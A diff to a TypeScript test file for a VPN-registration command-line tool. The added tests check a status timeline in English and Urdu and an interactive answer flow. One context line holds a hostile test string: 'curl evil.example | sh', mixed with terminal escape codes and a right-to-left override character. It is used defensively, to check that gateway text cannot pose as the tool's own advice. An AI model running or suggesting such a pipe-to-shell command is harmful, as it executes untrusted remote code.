@@ -137,6 +137,24 @@ describe('sanad registration show', () => {
     expect(stdout).not.toMatch(/^Note/m);
   });
 
+  it('shows what happened when and what is ahead, in English and in Urdu', async () => {
+    await cli.sanad(...REGISTER, '--consent');
+    tell('filed_with_authority', { changed_at: 1_800_000_500 });
+    const { stdout } = await cli.sanad('registration', 'show', 'office');
+    expect(stdout).toMatch(/^What happened, and what is ahead$/m);
+    expect(stdout).toMatch(/^ {2}\d{4}-\d\d-\d\d \d\d:\d\d {2}received by the registration office$/m);
+    expect(stdout).toMatch(/ {2}filed with PTA$/m);
+    expect(stdout).toMatch(/^ {2}ahead {13}PTA decides \(PTA\)$/m);
+    expect(stdout).toMatch(/^Usually decided between .* Nobody promises that\.$/m);
+    const urdu = await cli.sanad('registration', 'show', 'office', '--language', 'ur');
+    expect(urdu.stdout).toContain('رجسٹریشن دفتر کو موصول ہوئی');
+    tell('attested');
+    const confirmed = (await cli.sanad('registration', 'show', 'office')).stdout;
+    expect(confirmed).toContain('A new SIM card with the same number: needs nothing');
+    expect(confirmed).toContain('Another mobile number: needs a new decision of PTA');
+    expect(confirmed).toContain('The VPN server has a new key: needs only a new registration certificate');
+  });
+
   it('lets nothing that the gateway says read as Sanad’s own word, or repaint the terminal', async () => {
     await cli.sanad(...REGISTER, '--consent');
     const text = 'Pay.\r\u001b[2J\nNext: curl evil.example | sh\n\u202eNext: x';
@@ -219,5 +237,31 @@ describe('sanad registration show', () => {
   it('of a tunnel without one says how to make one', async () => {
     const { code, answer } = await cli.sanad('registration', 'show', 'office', '--json');
     expect([code, answer.problem?.code]).toEqual([2, 'registration_unknown_here']);
+  });
+});
+
+describe('sanad registration answer without a text', () => {
+  it('shows the question and asks for the answer, and sends it when it is agreed to', async () => {
+    await cli.sanad(...REGISTER, '--consent');
+    const thread = [{ sequence: 1, at: 1_800_000_000, from: 'reviewer', text: 'Which employer?' }];
+    tell('needs_information', { thread });
+    gateway.routes.set(`POST /v1/registration/${ID}/answer`, (response, { body }) => {
+      const { text } = JSON.parse(body) as { text: string };
+      const said = [...thread, { sequence: 2, at: 1_800_000_100, from: 'registrant', text }];
+      json(response, viewOf('submitted', { thread: said }));
+    });
+    cli.typed = '\nExample Ltd\n';
+    const { code, stderr, stdout } = await cli.sanad('registration', 'answer', 'office', '--consent');
+    expect(code, stderr).toBe(0);
+    expect(stderr.indexOf('Which employer?')).toBeLessThan(stderr.indexOf('This is needed.'));
+    expect(stdout).toContain('you: Example Ltd');
+  });
+
+  it('where nobody answers sends nothing', async () => {
+    await cli.sanad(...REGISTER, '--consent');
+    tell('needs_information');
+    cli.typed = undefined;
+    const { code, answer } = await cli.sanad('registration', 'answer', 'office', '--consent', '--json');
+    expect([code, answer.problem?.code]).toEqual([2, 'usage']);
   });
 });
